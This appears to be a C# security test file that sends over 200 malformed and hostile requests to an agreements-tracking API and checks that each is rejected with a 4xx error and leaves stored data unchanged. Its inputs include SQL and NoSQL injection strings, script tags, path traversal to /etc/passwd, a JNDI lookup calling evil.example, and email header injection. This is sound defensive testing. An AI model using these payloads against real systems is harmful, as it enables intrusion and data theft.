using System.Net.Http.Json;
using System.Text;
using System.Text.Json.Nodes;
using Followups.Testing;

namespace Followups.Security.Tests;

/// <summary>
/// A corpus of malformed and hostile requests, each sent by a caller allowed to use the endpoint, so only the input is
/// wrong: every one must get a 4xx with problem details, none a server error, and the stored data must be the same
/// afterwards.
/// </summary>
[Collection(SecuredHostCollection.Name)]
public sealed class HostileRequestTests(SecuredHost host)
{
    /// <summary>One hostile request: what it tries, and how it is sent.</summary>
    public sealed record Case(string Name, HttpMethod Method, string Path, string Token, string? Body, (string Name, string Value)[]? Headers = null);

    private static readonly string[] Injections =
    [
        "'; DROP TABLE agreements; --",
        "{\"$ne\": null}",
        "<script>alert(1)</script>",
        "../../../etc/passwd",
        "${jndi:ldap://evil.example/a}",
        "\u0000\u0001\u001b[31m",
    ];

    private static readonly JsonNode?[] WrongScalars = [123, true, new JsonArray(), new JsonObject()];
    private static readonly JsonNode?[] WrongLists = ["x", 1, new JsonObject(), new JsonArray(1), new JsonArray("x"), new JsonArray(new JsonArray())];

    public IEnumerable<Case> Corpus()
    {
        var secretariat = SecuredHost.Secretariat;
        const string agreements = "/api/v1/agreements";
        string Base() => SecuredHost.Agreement(SecuredHost.OrgA, "SEC-H/" + Guid.NewGuid().ToString("N")[..8]).ToJsonString();
        Case Agreement(string name, Action<JsonObject> change)
        {
            var body = JsonNode.Parse(Base())!.AsObject();
            change(body);
            return new Case("agreement: " + name, HttpMethod.Post, agreements, secretariat, body.ToJsonString());
        }

        // Broken JSON.
        string[] broken =
        [
            "", "{", "}", "[", "null", "\"text\"", "42", "true", "{\"title\":}", "{'title':'x'}", "{\"title\":\"x\",}", "{}{}", "<agreement/>",
            "{\"title\":\"x\" \"reference\":\"y\"}", "{\"commitments\":[{]}", "\u0000", "{\"title\":\"\\ud800\"}",
        ];
        foreach (var text in broken)
        {
            yield return new Case($"agreement: broken JSON {Show(text)}", HttpMethod.Post, agreements, secretariat, text);
        }

        // Nesting far deeper than any agreement has.
        foreach (var depth in new[] { 100, 1000, 10000 })
        {
            yield return new Case($"agreement: parties nested {depth} deep", HttpMethod.Post, agreements, secretariat,
                "{\"title\":\"x\",\"parties\":" + new string('[', depth) + new string(']', depth) + "}");
            yield return new Case($"agreement: objects nested {depth} deep", HttpMethod.Post, agreements, secretariat,
                string.Concat(Enumerable.Repeat("{\"a\":", depth)) + "1" + new string('}', depth));
        }

        // Wrong types in every field.
        foreach (var field in new[] { "title", "reference", "venue", "format", "concludedOn" })
        {
            foreach (var wrong in WrongScalars)
            {
                yield return Agreement($"{field} = {Show(wrong)}", a => a[field] = wrong?.DeepClone());
            }
        }

        foreach (var date in new[] { "2026-13-45", "2026-02-30", "yesterday", "2026-11-20T25:00", "1989-12-31", "2101-01-01", "" })
        {
            yield return Agreement($"concludedOn = {date}", a => a["concludedOn"] = date);
        }

        foreach (var field in new[] { "parties", "participants", "figures", "commitments" })
        {
            foreach (var wrong in WrongLists)
            {
                yield return Agreement($"{field} = {Show(wrong)}", a => a[field] = wrong?.DeepClone());
            }
        }

        foreach (var field in new[] { "key", "summary", "area", "kind", "lead", "dueDate", "urgency" })
        {
            foreach (var wrong in WrongScalars)
            {
                yield return Agreement($"commitments[0].{field} = {Show(wrong)}", a => a["commitments"]![0]![field] = wrong?.DeepClone());
            }
        }

        foreach (var wrong in new JsonNode?[] { "x", 1, new JsonArray(1), new JsonArray(new JsonObject()) })
        {
            yield return Agreement($"commitments[0].coExecutors = {Show(wrong)}", a => a["commitments"]![0]!["coExecutors"] = wrong?.DeepClone());
        }

        foreach (var field in new[] { "id", "name", "country" })
        {
            foreach (var wrong in new JsonNode?[] { 1, new JsonArray(), new JsonObject() })
            {
                yield return Agreement($"parties[0].{field} = {Show(wrong)}", a => a["parties"]![0]![field] = wrong?.DeepClone());
            }
        }

        // Numbers out of any sensible range, and amounts that are not numbers.
        foreach (var amount in new[] { "\"lots\"", "true", "[]", "-1", "1e400", "-1e30", "\"1e400\"", "79228162514264337593543950336" })
        {
            var body = Base().Replace("\"amount\":108000000", "\"amount\":" + amount, StringComparison.Ordinal);
            yield return new Case($"agreement: figures[0].amount = {amount}", HttpMethod.Post, agreements, secretariat, body);
        }

        foreach (var currency in new[] { "XXX1", "usd", "", "$gt" })
        {
            yield return Agreement($"figures[0].currency = {currency}", a => a["figures"]![0]!["currency"] = currency);
        }

        // Strings far over their limits.
        foreach (var (field, length) in new[] { ("title", 100_000), ("reference", 10_000), ("venue", 10_000) })
        {
            yield return Agreement($"{field} of {length} characters", a => a[field] = new string('x', length));
        }

        foreach (var field in new[] { "summary", "key" })
        {
            yield return Agreement($"commitments[0].{field} of 100000 characters", a => a["commitments"]![0]![field] = new string('x', 100_000));
        }

        // Injection-looking text where only a code, a date or a known name fits.
        (string Name, Action<JsonObject, string> Set)[] constrained =
        [
            ("concludedOn", (a, v) => a["concludedOn"] = v),
            ("format", (a, v) => a["format"] = v),
            ("parties[0].id", (a, v) => a["parties"]![0]!["id"] = v),
            ("parties[0].country", (a, v) => a["parties"]![0]!["country"] = v),
            ("participants[0].party", (a, v) => a["participants"]![0]!["party"] = v),
            ("figures[0].currency", (a, v) => a["figures"]![0]!["currency"] = v),
            ("commitments[0].key", (a, v) => a["commitments"]![0]!["key"] = v),
            ("commitments[0].area", (a, v) => a["commitments"]![0]!["area"] = v),
            ("commitments[0].kind", (a, v) => a["commitments"]![0]!["kind"] = v),
            ("commitments[0].lead", (a, v) => a["commitments"]![0]!["lead"] = v),
            ("commitments[0].urgency", (a, v) => a["commitments"]![0]!["urgency"] = v),
            ("commitments[0].dueDate", (a, v) => a["commitments"]![0]!["dueDate"] = v),
        ];
        foreach (var (name, set) in constrained)
        {
            foreach (var injection in Injections)
            {
                yield return Agreement($"{name} = {Show(injection)}", a => set(a, injection));
            }
        }

        yield return new Case("agreement: as text/plain", HttpMethod.Post, agreements, secretariat, null, [("X-Body-As-Text", Base())]);
        foreach (var key in new[] { new string('k', 500), "two words", "ключ", "tab\there" })
        {
            yield return new Case($"agreement: Idempotency-Key {Show(key)}", HttpMethod.Post, agreements, secretariat, Base(), [("Idempotency-Key", key)]);
        }

        // Amendments of agreement A.
        var amend = $"{agreements}/{host.AgreementA}/amendments";
        foreach (var text in new[] { "", "{", "[]", "null", "{\"expectedVersion\":}" })
        {
            yield return new Case($"amendment: broken JSON {Show(text)}", HttpMethod.Post, amend, secretariat, text);
        }

        foreach (var version in new[] { "-1", "0", "2147483648", "\"1\"", "true", "1.5", "null", "1e400" })
        {
            yield return new Case($"amendment: expectedVersion = {version}", HttpMethod.Post, amend, secretariat,
                "{\"expectedVersion\":" + version + ",\"cancel\":[{\"key\":\"supply\",\"reason\":\"hostile\"}]}");
        }

        foreach (var (what, body) in new[]
                 {
                     ("add is a string", "{\"expectedVersion\":99,\"add\":\"x\"}"),
                     ("add holds a number", "{\"expectedVersion\":99,\"add\":[1]}"),
                     ("cancel of an unknown key", "{\"expectedVersion\":99,\"cancel\":[{\"key\":\"nope\",\"reason\":\"x\"}]}"),
                     ("change of an unknown key", "{\"expectedVersion\":99,\"change\":[{\"key\":\"<script>\",\"summary\":\"x\"}]}"),
                     ("nothing to do", "{\"expectedVersion\":99}"),
                 })
        {
            yield return new Case($"amendment: {what}", HttpMethod.Post, amend, secretariat, body);
        }

        yield return new Case("amendment: of an agreement that does not exist", HttpMethod.Post, $"{agreements}/{Guid.NewGuid()}/amendments", secretariat,
            "{\"expectedVersion\":1,\"cancel\":[{\"key\":\"supply\",\"reason\":\"x\"}]}");

        // The directory.
        const string organisations = "/api/v1/organisations";
        const string validOrganisation = "{\"name\":\"Hostile\",\"country\":\"BY\",\"kind\":\"company\",\"emails\":[\"h@example.org\"]}";
        foreach (var id in new[] { "..", "a b", "%3Cscript%3E", new string('x', 300), "$where", "%01", "UPPER", "a%2Fb" })
        {
            yield return new Case($"organisation: id {Show(id)}", HttpMethod.Put, $"{organisations}/{id}", secretariat, validOrganisation);
        }

        foreach (var (what, body) in new[]
                 {
                     ("name is a number", "{\"name\":1,\"country\":\"BY\",\"kind\":\"company\"}"),
                     ("country of three letters", "{\"name\":\"x\",\"country\":\"BYR\",\"kind\":\"company\"}"),
                     ("country injection", "{\"name\":\"x\",\"country\":\"' OR 1=1 --\",\"kind\":\"company\"}"),
                     ("kind unknown", "{\"name\":\"x\",\"country\":\"BY\",\"kind\":\"<script>\"}"),
                     ("emails a string", "{\"name\":\"x\",\"country\":\"BY\",\"kind\":\"company\",\"emails\":\"a@b.c\"}"),
                     ("email not an address", "{\"name\":\"x\",\"country\":\"BY\",\"kind\":\"company\",\"emails\":[\"not-an-address\"]}"),
                     ("email header injection", "{\"name\":\"x\",\"country\":\"BY\",\"kind\":\"company\",\"emails\":[\"a@b.c\\r\\nBcc: all@evil.example\"]}"),
                     ("webhook javascript:", "{\"name\":\"x\",\"country\":\"BY\",\"kind\":\"company\",\"webhooks\":[{\"url\":\"javascript:alert(1)\",\"secret\":\"0123456789abcdef0123456789abcdef\"}]}"),
                     ("webhook file:", "{\"name\":\"x\",\"country\":\"BY\",\"kind\":\"company\",\"webhooks\":[{\"url\":\"file:///etc/passwd\",\"secret\":\"0123456789abcdef0123456789abcdef\"}]}"),
                     ("language unknown", "{\"name\":\"x\",\"country\":\"BY\",\"kind\":\"company\",\"language\":\"xx\"}"),
                     ("supervisor unknown", "{\"name\":\"x\",\"country\":\"BY\",\"kind\":\"company\",\"supervisor\":\"{\\\"$ne\\\":null}\"}"),
                     ("name of 100000 characters", "{\"name\":\"" + new string('x', 100_000) + "\",\"country\":\"BY\",\"kind\":\"company\"}"),
                     ("broken JSON", "{\"name\":"),
                     ("an array", "[]"),
                 })
        {
            yield return new Case($"organisation: {what}", HttpMethod.Put, $"{organisations}/sec-hostile", secretariat, body);
        }

        // Task actions, by the member whose task it is.
        var task = $"/api/v1/tasks/{host.TaskA}";
        var member = SecuredHost.MemberA;
        foreach (var body in new[]
                 {
                     "{}", "{\"text\":\"\"}", "{\"text\":\"x\",\"percent\":-1}", "{\"text\":\"x\",\"percent\":101}", "{\"text\":\"x\",\"percent\":1e20}",
                     "{\"text\":\"x\",\"percent\":\"50\"}", "{\"text\":\"x\",\"percent\":2147483648}", "{\"text\":1,\"percent\":5}",
                     "{\"text\":\"" + new string('x', 5000) + "\",\"percent\":5}", "{\"text\":", "[1,2]",
                 })
        {
            yield return new Case($"progress: {Show(body)}", HttpMethod.Post, $"{task}/progress", member, body);
        }

        foreach (var body in new[]
                 {
                     "{\"dueDate\":\"2026-02-30\",\"reason\":\"x\"}", "{\"dueDate\":\"tomorrow\",\"reason\":\"x\"}", "{\"dueDate\":20270101,\"reason\":\"x\"}",
                     "{\"dueDate\":\"99999-01-01\",\"reason\":\"x\"}", "{\"dueDate\":\"2027-01-29\"}", "{\"dueDate\":\"2027-01-29\",\"reason\":\"" + new string('x', 5000) + "\"}",
                 })
        {
            yield return new Case($"extension request: {Show(body)}", HttpMethod.Post, $"{task}/extension-requests", member, body);
        }

        foreach (var body in new[] { "{\"report\":\"\"}", "{\"report\":1}", "{\"report\":\"" + new string('x', 5000) + "\"}", "{" })
        {
            yield return new Case($"completion: {Show(body)}", HttpMethod.Post, $"{task}/complete", member, body);
        }

        yield return new Case("approval without a reason", HttpMethod.Post, $"{task}/extension-requests/approve", secretariat, "{}");
        yield return new Case("feed: org of 1000 characters", HttpMethod.Post, "/api/v1/calendar-feeds", member, "{\"org\":\"" + new string('x', 1000) + "\"}");
        yield return new Case("feed: a token of 1000 characters", HttpMethod.Get, $"/api/v1/calendar-feeds/{new string('x', 1000)}/deadlines.ics", member, null);

        // Query strings.
        var staff = TestIdentity.Staff;
        foreach (var query in new[]
                 {
                     "/api/v1/tasks?limit=-1", "/api/v1/tasks?limit=0", "/api/v1/tasks?limit=abc", "/api/v1/tasks?limit=99999999999999999999",
                     "/api/v1/tasks?cursor=!!!", "/api/v1/tasks?cursor=%3Cscript%3E", "/api/v1/tasks?status=lost", "/api/v1/tasks?overdue=maybe",
                     "/api/v1/tasks?dueBefore=2026-02-30", "/api/v1/tasks?dueAfter=x", "/api/v1/tasks?dueAfter=2027-01-01&dueBefore=2026-01-01",
                     "/api/v1/tasks/export.csv?status=%27%3B%20DROP", "/api/v1/tasks/deadlines.ics?org=",
                     "/api/v1/agreements?concludedFrom=x", "/api/v1/agreements?concludedTo=2026-13-01", $"/api/v1/agreements?q={new string('q', 201)}",
                     "/api/v1/agreements?cursor=%25%25%25", "/api/v1/notifications?status=x", "/api/v1/notifications?channel=fax",
                     "/api/v1/notifications?since=last%20tuesday", "/api/v1/notifications/summary?since=last%20tuesday",
                     "/api/v1/notifications/summary?channel=fax", "/api/v1/reports/open-items?groupBy=x", "/api/v1/reports/open-items?groupBy=%3Cscript%3E",
                     $"/api/v1/agreements/{host.AgreementA}/versions/99999", $"/api/v1/agreements/{host.AgreementA}/versions/-1",
                     "/api/v1/tasks/..%2F..%2Fetc%2Fpasswd", "/api/v1/notifications/%01%02",
                 })
        {
            yield return new Case($"query: {query}", HttpMethod.Get, query, staff, null);
        }
    }

    [Fact]
    public async Task Hostile_requests_get_problem_details_never_a_server_error_and_change_nothing()
    {
        var corpus = Corpus().ToList();
        Assert.True(corpus.Count >= 200, $"the corpus holds {corpus.Count} requests");
        var before = await Snapshot();
        var failures = new List<string>();
        foreach (var hostile in corpus)
        {
            using var client = host.As(hostile.Token);
            using var request = new HttpRequestMessage(hostile.Method, hostile.Path);
            if (hostile.Body is not null)
            {
                request.Content = new StringContent(hostile.Body, Encoding.UTF8, "application/json");
            }

            foreach (var (name, value) in hostile.Headers ?? [])
            {
                if (name == "X-Body-As-Text")
                {
                    request.Content = new StringContent(value, Encoding.UTF8, "text/plain");
                }
                else
                {
                    request.Headers.TryAddWithoutValidation(name, value);
                }
            }

            using var response = await client.SendAsync(request);
            var status = (int)response.StatusCode;
            var type = response.Content.Headers.ContentType?.MediaType;
            if (status is < 400 or >= 500 || type != "application/problem+json")
            {
                failures.Add($"{hostile.Name}: {status} {type} {Truncate(await response.Content.ReadAsStringAsync())}");
            }
        }

        Assert.True(failures.Count == 0, $"{failures.Count} of {corpus.Count}:\n{string.Join("\n", failures)}");
        Assert.Equal(before, await Snapshot());
    }

    /// <summary>What is stored, as staff see it: agreements with their versions, the directory, every task's state.</summary>
    private async Task<string> Snapshot()
    {
        using var staff = host.As(TestIdentity.Staff);
        var agreements = await staff.GetFromJsonAsync<JsonObject>("/api/v1/agreements?limit=200");
        var versions = await staff.GetStringAsync($"/api/v1/agreements/{host.AgreementA}/versions");
        var organisations = await staff.GetStringAsync("/api/v1/organisations?limit=1000");
        var tasks = (await staff.GetFromJsonAsync<JsonObject>("/api/v1/tasks?limit=200"))!["items"]!.AsArray()
            .Select(t => $"{t!["id"]}|{t["status"]}|{t["dueDate"]}|{t["percent"]}|{t["progress"]!.AsArray().Count}|{t["deadlineChanges"]!.AsArray().Count}");
        return string.Join("\n", agreements!.ToJsonString(), versions, organisations, string.Join("\n", tasks.Order(StringComparer.Ordinal)));
    }

    private static string Show(object? value)
    {
        var text = value switch { null => "null", JsonNode node => node.ToJsonString(), _ => value.ToString() ?? "" };
        return text.Length > 40 ? text[..40] + "…" : text;
    }

    private static string Truncate(string text) => text.Length > 300 ? text[..300] + "…" : text;
}
